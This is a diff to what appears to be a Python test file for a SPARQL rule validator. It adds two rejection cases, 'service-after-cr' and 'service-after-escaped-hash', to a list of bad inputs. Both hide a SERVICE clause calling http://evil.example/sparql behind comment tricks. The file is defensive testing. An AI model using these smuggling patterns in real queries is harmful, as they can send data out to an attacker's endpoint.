@@ -91,6 +91,8 @@ BAD: list[tuple[str, str, int, str]] = [
     ("construct", GOOD.replace("SELECT ?focus WHERE", "CONSTRUCT { ?focus a tg:Finding } WHERE"), 9, "SELECT"),
     ("placeholder", GOOD.replace("{focus} is", "{focus} or {zone} is"), 8, "{zone}"),
     ("service", GOOD.replace("  ?focus a tgml:VectorStore .", "  ?focus a tgml:VectorStore .\n  SERVICE <http://evil.example/sparql> { ?focus ?p ?o }"), 11, "SERVICE"),
+    ("service-after-cr", GOOD.replace("  ?focus a tgml:VectorStore .", "  ?focus a tgml:VectorStore . # note\r  SERVICE <http://evil.example/sparql> { ?focus ?p ?o }"), 11, "SERVICE"),
+    ("service-after-escaped-hash", GOOD.replace("  ?focus a tgml:VectorStore .", "  ?focus a tgml:VectorStore . ?focus rdfs:label\\#y ?z SERVICE <http://evil.example/sparql> { ?focus ?p ?o }"), 10, "SERVICE"),
     ("missing-key", GOOD.replace("# source: ACME internal guideline 7\n", ""), 1, "header lacks source"),
     ("unknown-key", GOOD.replace("# source:", "# owner: me\n# source:"), 7, "unknown header key"),
     ("category", GOOD.replace("stride:Tampering", "stride:Tamper"), 4, "not a STRIDE or LINDDUN category"),
